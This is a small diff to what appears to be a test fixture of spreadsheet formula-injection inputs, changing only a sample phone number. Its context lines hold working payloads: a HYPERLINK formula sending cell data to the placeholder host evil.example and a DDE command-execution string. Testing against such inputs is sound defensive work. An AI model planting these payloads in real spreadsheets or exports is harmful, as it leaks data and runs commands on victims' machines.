@@ -107,7 +107,7 @@ FORMULAS = {
     "call": '=HYPERLINK("http://evil.example?x="&A1,"more")',
     "command": "=cmd|' /C calc'!A0",
     "at": "@SUM(A1:A2)",
-    "plus": "+44 20 7946 0000",
+    "plus": "+1-555-0100",
     "minus": "-2+3",
     "tab": "\t=1",
     "return": "\r=1",
